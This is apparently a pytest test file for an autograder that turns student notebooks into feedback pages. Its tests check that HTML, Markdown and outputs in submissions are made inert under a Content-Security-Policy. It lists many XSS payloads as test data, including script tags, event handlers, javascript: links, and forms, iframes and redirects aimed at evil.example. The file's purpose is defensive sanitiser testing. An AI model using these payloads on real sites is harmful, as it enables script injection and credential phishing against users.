"""Feedback pages: everything a student sent is shown, and nothing of it acts."""

import base64

import nbformat
import pytest
from helpers import cell_of, enter, lean
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder.course import CourseError
from autograder.grading import Graded
from autograder.judging import MIME
from autograder.reporting import FeedbackPage, write_feedback
from autograder.reporting.policy import POLICY, offences
from autograder.submissions import Submission, inert_outputs, mend
from autograder.submissions.exchange import FILES
from autograder.submissions.inert import MAX_OUTPUTS, MAX_TEXT, clean_html, inert_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="DATA:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">here</a>',
    '<a href="https://evil.example/login">your result</a>',
    '<a href="data:text/html,<script>alert(1)</script>">here</a>',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    '<div style="background: url(https://evil.example/x.png)">x</div>',
    '<div style="position: fixed; top: 0; width: 100%">18 of 18 points</div>',
    '<p id="top" class="result" onclick="alert(1)">18 of 18 points</p>',
    '<object data="https://evil.example/x.swf"></object><embed src="//evil.example/x">',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>',
    "<template><script>alert(1)</script></template><noscript><img src=//evil.example></noscript>",
    "</div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
]
MARKDOWN = [
    "[here](javascript:alert(1))",
    "[here](https://evil.example)",
    "![pixel](https://evil.example/pixel.png)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<https://evil.example>",
    "```html\n<script>alert(1)</script>\n```",
    "$\\href{javascript:alert(1)}{x}$",
]
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 50).decode()


def page_with(text):
    return f'<meta http-equiv="Content-Security-Policy" content="{POLICY}"><body>{text}</body>'


# ---------------------------------------------------------------- pieces of HTML


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_becomes_inert(text):
    cleaned = clean_html(f"<p>before</p>{text}<p>after</p>")
    assert offences(page_with(cleaned)) == []
    assert "<p>before</p>" in cleaned


@pytest.mark.parametrize("text", HOSTILE)
def test_the_check_finds_it_as_it_was(text):
    """All but what only lies or is no tag: it does nothing, and is a text among others."""
    if "position" not in text and "<scr<script>" not in text:
        assert offences(page_with(text)) != []


def test_a_page_without_a_policy_is_an_offence():
    assert offences("<body>text</body>") == ["no Content-Security-Policy"]
    loose = POLICY.replace("default-src 'none'", "default-src *")
    assert offences(page_with("").replace(POLICY, loose)) == ["no Content-Security-Policy"]


def test_what_reads_well_stays():
    kept = (
        '<div style="border-left: 4px solid #3c9a42;"><b>Right</b> <code>f(x)</code></div>'
        '<table><tbody><tr><td colspan="2">1 &lt; 2</td></tr></tbody></table>'
        f'<img src="data:image/png;base64,{PNG}" alt="a plot">'
        "<details><summary>more</summary>less</details>"
    )
    assert clean_html(kept) == kept


def test_a_drawing_becomes_an_image():
    drawing = '<svg width="10"><title>A graph</title><script>alert(1)</script></svg>'
    cleaned = clean_html(f"<p>Look:</p>{drawing}")
    assert cleaned.startswith('<p>Look:</p><img src="data:image/svg+xml;base64,')
    assert 'alt="A graph"' in cleaned
    encoded = cleaned.split("base64,")[1].split('"')[0]
    assert base64.b64decode(encoded).startswith(b'<svg xmlns="http://www.w3.org/2000/svg"')


def test_text_cells_show_tags_as_they_were_typed():
    assert inert_text("a < b and <script>x</script>") == "a < b and &lt;script>x&lt;/script>"


# ---------------------------------------------------------------- outputs


def test_only_one_inert_form_of_an_output_stays():
    bundle = {
        "text/plain": "a figure",
        "text/html": "<script>alert(1)</script>",
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "application/vnd.backprop-course.verdict+json": {"score": 2},
        "image/png": PNG,
    }
    about = {"image/png": {"alt": "a plot", "width": "1 onerror=alert(1)"}, "isolated": True}
    (output,) = inert_outputs([new_output("display_data", bundle, metadata=about)])
    assert output.data == {"text/plain": "a figure", "image/png": PNG}
    assert output.metadata == {"image/png": {"alt": "a plot"}}


@pytest.mark.parametrize(
    "bundle",
    [
        {"application/javascript": "alert(1)"},
        {"image/png": "no base64!"},
        {"image/png": base64.b64encode(b"<svg onload=alert(1)>").decode()},
        {"text/html": "<script>alert(1)</script>"},
    ],
)
def test_what_cannot_be_shown_goes(bundle):
    assert inert_outputs([new_output("display_data", bundle)]) == []


def test_outputs_are_limited_in_size_and_number():
    streams = [new_output("stream", text="x" * 10 * MAX_TEXT) for _ in range(3 * MAX_OUTPUTS)]
    kept = inert_outputs(streams)
    assert len(kept) == MAX_OUTPUTS + 1
    assert all(len(output.text) < MAX_TEXT + 100 for output in kept)
    assert "more outputs are not shown" in kept[-1].text
    (error,) = inert_outputs(
        [new_output("error", ename="E" * 10**6, evalue="x" * 10**6, traceback=["x" * 10**6] * 9)]
    )
    assert len(str(error)) < MAX_TEXT + 5000


def test_making_inert_twice_changes_nothing():
    bundle = {"text/html": "<b>x</b><svg></svg>", "text/plain": "x" * 2 * MAX_TEXT}
    once = inert_outputs([new_output("display_data", bundle)])
    assert inert_outputs(once)[0].data["text/html"] == once[0].data["text/html"]


# ---------------------------------------------------------------- whole pages


@pytest.fixture
def hand_in(small):
    """Enter a student's submission with these cells, as if it had just been run."""

    def call(student, *cells, repairs=()):
        released = nbformat.read(small.release, as_version=4)
        notebook = lean(nbformat.read(small.release, as_version=4))
        notebook.cells[1:1] = cells
        outputs = [(cell, cell.outputs) for cell in cells if cell.cell_type == "code"]
        mend(notebook, released)
        for cell, sent in outputs:
            cell.outputs = sent
        notebook.metadata["autograder"]["repairs"] = list(repairs)
        verdicts = {
            id: {"exercise": id, "score": 1.0, "max": 2.0, "cause": "sign", "message": "A `sign`."}
            for id in small.exercises()
        }
        for id, verdict in verdicts.items():
            data = {MIME: verdict, "text/html": f"<b>{id}: 1 of 2 points</b>"}
            cell_of(notebook, f"test_{id}").outputs = [new_output("display_data", data)]
        enter(small, student, Graded(Submission(student, digest="x"), notebook, verdicts))

    return call


@pytest.fixture
def page_of(small, hand_in):
    """The feedback page of a submission with these cells, made by nbgrader's own command."""

    def call(*cells, repairs=()):
        hand_in("ada", *cells, repairs=repairs)
        return write_page(small)

    return call


def write_page(lesson):
    from autograder.course import api
    from autograder.course.nbgrader_api import run

    run(api(lesson.course).generate_feedback, lesson.id, "ada", force=True)
    return lesson.feedback("ada").read_text(encoding="utf-8")


# Names of folders are ids of students; the first is what a second download is called.
ODD_IDS = [
    "Jo [2]",
    "a*",
    "b?",
    "[!c]",
    "{d}",
    "%s",
    "o'neil",
    "日本",
    "é è",
    "+1",
    "-x",
    "=1+1",
    "~",
]


def test_an_id_may_hold_any_character(small, hand_in):
    for student in ODD_IDS:
        hand_in(student)
    pages = write_feedback(small)
    assert {page.student: page.problem for page in pages} == dict.fromkeys(ODD_IDS, "")
    for page in pages:
        assert page.path == small.feedback(page.student)
        assert {path.name for path in page.path.parent.iterdir()} == {page.path.name, *FILES}
        assert "8 of 18 points" in page.path.read_text(encoding="utf-8")


def test_who_stops_it_stops_it(small, hand_in, monkeypatch, run):
    """Ctrl-C is no trouble of one page."""
    for student in ("anna", "bo"):
        hand_in(student)
    begun = []

    def stops(step, nb, resources):
        begun.append(resources["nbgrader"]["student"])
        raise KeyboardInterrupt

    monkeypatch.setattr(FeedbackPage, "preprocess", stops)
    assert run("--course", small.course.path, "feedback", "01").status == 130
    assert begun == ["anna"]
    assert not small.feedback("anna").exists()


def test_a_page_that_cannot_be_made_costs_that_page(small, hand_in, monkeypatch, run):
    """One student is no longer in the gradebook, one page would act: the others get theirs."""
    from autograder.course import gradebook

    shown = [new_output("display_data", {"text/html": HOSTILE[0]})]
    hand_in("anna")
    hand_in("bo", new_code_cell("show()", outputs=shown))
    hand_in("carl")
    with gradebook(small.course) as opened:
        opened.remove_student("anna")
    monkeypatch.setattr("autograder.reporting.page.inert_outputs", lambda outputs: outputs)
    said = run("--course", small.course.path, "feedback", "01")
    assert said.status == 0
    assert "3 feedback pages" in said.out
    assert "⚑ anna: the page could not be made, a plain one stands in its place" in said.out
    assert "it is not in the gradebook" in said.out
    assert "⚑ bo: " in said.out
    assert "would not be inert: <script>" in said.out
    assert "⚑ carl" not in said.out
    for student in ("anna", "bo"):
        page = small.feedback(student).read_text(encoding="utf-8")
        assert "could not be made" in page
        assert offences(page) == []
    assert "8 of 18 points" in small.feedback("carl").read_text(encoding="utf-8")


def test_a_page_shows_marks_and_answers_and_is_inert(page_of):
    page = page_of(new_markdown_cell("A formula: $x^2 < 3$, and **bold**."))
    assert offences(page) == []
    assert POLICY in page
    assert "8 of 18 points" in page
    assert "A <code>sign</code>." in page
    assert "Test cell" not in page
    assert "$x^2 &lt; 3$" in page
    assert "<strong>bold</strong>" in page
    assert page.count("Your answer") == 8


def test_a_page_of_everything_hostile_is_inert(page_of):
    shown = [new_output("display_data", {"text/html": text}) for text in HOSTILE]
    shown += [new_output("display_data", {"text/markdown": text}) for text in MARKDOWN]
    shown += [new_output("stream", text="\n".join(HOSTILE))]
    shown += [new_output("error", ename=HOSTILE[0], evalue=HOSTILE[3], traceback=HOSTILE)]
    page = page_of(
        *[new_markdown_cell(text) for text in HOSTILE + MARKDOWN],
        *[new_raw_cell(text) for text in HOSTILE],
        *[new_code_cell(f"# {text}") for text in HOSTILE],
        new_code_cell("show()", outputs=shown),
        repairs=HOSTILE,
    )
    assert offences(page) == []
    assert "&lt;script&gt;alert(1)" in page, "what was typed can be read"


def test_a_page_is_not_written_if_it_would_act(page_of, monkeypatch):
    monkeypatch.setattr("autograder.reporting.page.inert_outputs", lambda outputs: outputs)
    shown = [new_output("display_data", {"text/html": HOSTILE[0]})]
    with pytest.raises(CourseError, match="would not be inert: <script>"):
        page_of(new_code_cell("show()", outputs=shown))


def test_nbgraders_own_page_would_act(page_of, small):
    """With nbgrader's exporter and steps the same submission brings its scripts along."""
    config = small.course.path / "nbgrader_config.py"
    own = """
from nbconvert.exporters import HTMLExporter

c.GenerateFeedback.preprocessors = [GetGrades]
c.GenerateFeedback.exporter_class = HTMLExporter
"""
    config.write_text(config.read_text(encoding="utf-8") + own, encoding="utf-8")
    shown = [new_output("display_data", {"text/html": HOSTILE[0]})]
    page = page_of(new_code_cell("show()", outputs=shown))
    assert "<script>alert(1)</script>" in page
    assert "<script>" in offences(page)
    assert page.count("Test cell") == 8


def test_a_page_speaks_of_points_that_a_person_changed(page_of, small):
    from autograder.course import gradebook

    page_of()
    with gradebook(small.course) as opened:
        opened.find_grade("test_gates", small.notebook, small.id, "ada").manual_score = 2.0
        opened.db.commit()
    page = write_page(small)
    assert "9 of 18 points" in page
    assert "A person has changed these points (the tests: 1)" in page


def test_hidden_lines_of_tests_are_not_shown(page_of):
    page = page_of()
    assert "HIDDEN" not in page
    assert "judge" not in page


def test_large_cells_and_many_outputs_make_no_large_page(page_of):
    shown = [new_output("stream", text="y" * 10**6)] * 200
    page = page_of(new_code_cell("#" + "x" * 10**6, outputs=shown), new_markdown_cell("z" * 10**6))
    assert len(page) < 1_500_000
    assert "cut here" in page


def test_the_page_without_marks_is_inert_too(small):
    problem = f"none of these can be read: {''.join(HOSTILE)}"
    enter(small, "ada", Graded(Submission("ada"), problem=problem))
    small.submission("ada").parent.mkdir(parents=True)
    (page,) = write_feedback(small)
    page = page.path.read_text(encoding="utf-8")
    assert offences(page) == []
    assert "A person will look at it" in page
